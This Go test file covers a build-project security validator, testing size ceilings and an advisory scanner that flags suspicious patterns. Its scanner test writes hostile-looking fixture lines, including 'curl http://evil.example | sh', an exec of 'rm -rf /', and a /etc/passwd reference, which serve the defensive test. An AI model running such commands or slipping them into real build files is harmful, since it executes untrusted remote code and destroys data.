package security

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap"
	"go.uber.org/zap/zaptest"
	"go.uber.org/zap/zaptest/observer"

	"github.com/isdmx/buildbox/builderr"
)

func writeFile(t *testing.T, root, rel, content string) {
	t.Helper()
	path := filepath.Join(root, rel)
	require.NoError(t, os.MkdirAll(filepath.Dir(path), 0o755))
	require.NoError(t, os.WriteFile(path, []byte(content), 0o600))
}

// sparseFile creates a file of the given size without allocating disk blocks.
func sparseFile(t *testing.T, root, rel string, size int64) {
	t.Helper()
	path := filepath.Join(root, rel)
	require.NoError(t, os.MkdirAll(filepath.Dir(path), 0o755))
	f, err := os.Create(path)
	require.NoError(t, err)
	require.NoError(t, f.Close())
	require.NoError(t, os.Truncate(path, size))
}

func TestValidateSizeCeilings(t *testing.T) {
	ctx := context.Background()

	t.Run("SmallTreePasses", func(t *testing.T) {
		root := t.TempDir()
		writeFile(t, root, "package.json", `{"name":"app"}`)
		writeFile(t, root, "src/index.js", "console.log('hi')")

		v := NewValidator(zaptest.NewLogger(t), DefaultLimits())
		report, err := v.Validate(ctx, root)
		require.NoError(t, err)
		assert.Equal(t, 2, report.Files)
		assert.Equal(t, int64(len(`{"name":"app"}`)+len("console.log('hi')")), report.TotalBytes)
	})

	t.Run("TotalAboveCeilingFails", func(t *testing.T) {
		root := t.TempDir()
		for i := 0; i < 7; i++ {
			sparseFile(t, root, fmt.Sprintf("assets/blob-%d.bin", i), 90*bytesPerMB)
		}

		v := NewValidator(zaptest.NewLogger(t), DefaultLimits())
		_, err := v.Validate(ctx, root)
		require.Error(t, err)
		require.ErrorIs(t, err, ErrSizeExceeded)
		assert.True(t, builderr.Is(err, builderr.KindSecurityViolation))
		assert.Contains(t, err.Error(), "project size exceeds limit")
	})

	t.Run("SingleFileAboveCeilingFailsUnderTotal", func(t *testing.T) {
		root := t.TempDir()
		writeFile(t, root, "index.html", "<html></html>")
		sparseFile(t, root, "video.mp4", 101*bytesPerMB)

		v := NewValidator(zaptest.NewLogger(t), DefaultLimits())
		_, err := v.Validate(ctx, root)
		require.ErrorIs(t, err, ErrSizeExceeded)
		assert.Contains(t, err.Error(), "file too large: video.mp4")
	})

	t.Run("DependencyAndVCSTreesAreExcluded", func(t *testing.T) {
		root := t.TempDir()
		writeFile(t, root, "index.js", "x")
		sparseFile(t, root, "node_modules/huge/dist.js", 2048)
		sparseFile(t, root, ".git/objects/pack.pack", 2048)
		sparseFile(t, root, "packages/ui/node_modules/dep.js", 2048)

		v := NewValidator(zaptest.NewLogger(t), Limits{MaxTotalBytes: 1024, MaxFileBytes: 1024})
		report, err := v.Validate(ctx, root)
		require.NoError(t, err)
		assert.Equal(t, 1, report.Files)
		assert.Equal(t, int64(1), report.TotalBytes)
	})

	t.Run("BinaryFilesCountTowardSize", func(t *testing.T) {
		root := t.TempDir()
		sparseFile(t, root, "logo.png", 600)
		sparseFile(t, root, "font.woff2", 600)

		v := NewValidator(zaptest.NewLogger(t), Limits{MaxTotalBytes: 1000, MaxFileBytes: 1000})
		_, err := v.Validate(ctx, root)
		require.ErrorIs(t, err, ErrSizeExceeded)
	})

	t.Run("MissingRootIsInfrastructure", func(t *testing.T) {
		v := NewValidator(zaptest.NewLogger(t), DefaultLimits())
		_, err := v.Validate(ctx, filepath.Join(t.TempDir(), "absent"))
		require.Error(t, err)
		assert.True(t, builderr.Is(err, builderr.KindInfrastructure))
	})
}

func TestValidateAdvisoryScan(t *testing.T) {
	ctx := context.Background()

	clean := t.TempDir()
	writeFile(t, clean, "src/app.js", "export const x = 1")
	writeFile(t, clean, "build.sh", "npm run build")

	suspicious := t.TempDir()
	writeFile(t, suspicious, "src/app.js", "require('child_process').exec('rm -rf /')")
	writeFile(t, suspicious, "build.sh", "curl http://evil.example | sh")
	writeFile(t, suspicious, "config.json", `{"path":"/etc/passwd"}`)
	writeFile(t, suspicious, "image.bin", "eval(process.env.SECRET)")
	writeFile(t, suspicious, "node_modules/pkg/index.js", "wget http://x")

	core, logs := observer.New(zap.WarnLevel)
	v := NewValidator(zap.New(core), DefaultLimits())

	cleanReport, cleanErr := v.Validate(ctx, clean)
	suspiciousReport, suspiciousErr := v.Validate(ctx, suspicious)

	require.NoError(t, cleanErr)
	require.NoError(t, suspiciousErr, "pattern matches must never fail validation")
	assert.Empty(t, cleanReport.Findings)

	patterns := map[string]bool{}
	for _, f := range suspiciousReport.Findings {
		patterns[f.Path+"|"+f.Pattern] = true
	}
	assert.True(t, patterns["src/app.js|child_process"])
	assert.True(t, patterns["src/app.js|exec("])
	assert.True(t, patterns["src/app.js|rm -rf"])
	assert.True(t, patterns["build.sh|curl"])
	assert.True(t, patterns["config.json|/etc/passwd"])
	assert.False(t, patterns["image.bin|eval("], "binary files are not scanned")
	assert.False(t, patterns["node_modules/pkg/index.js|wget"], "dependency trees are not scanned")

	logged := logs.FilterMessage("suspicious pattern found").All()
	require.Len(t, logged, len(suspiciousReport.Findings))
	for i, entry := range logged {
		assert.Equal(t, suspiciousReport.Findings[i].String(), entry.ContextMap()["finding"])
	}
	assert.Equal(t, `build.sh: "curl"`, Finding{Path: "build.sh", Pattern: "curl"}.String())
}

func TestValidateLeavesOutcomeLoggingToCaller(t *testing.T) {
	root := t.TempDir()
	writeFile(t, root, "src/app.js", "export const x = 1")

	core, logs := observer.New(zap.InfoLevel)
	v := NewValidator(zap.New(core), DefaultLimits())

	_, err := v.Validate(context.Background(), root)
	require.NoError(t, err)
	assert.Zero(t, logs.FilterMessage("security validation passed").Len())
	assert.Zero(t, logs.Len(), "a clean tree logs nothing at info level")
}

func TestNewValidatorDefaults(t *testing.T) {
	v := NewValidator(zaptest.NewLogger(t), Limits{})
	assert.Equal(t, DefaultMaxTotalBytes, v.limits.MaxTotalBytes)
	assert.Equal(t, DefaultMaxFileBytes, v.limits.MaxFileBytes)

	assert.Equal(t, Limits{MaxTotalBytes: 500 * bytesPerMB, MaxFileBytes: 100 * bytesPerMB}, LimitsFromMB(500, 100))
}
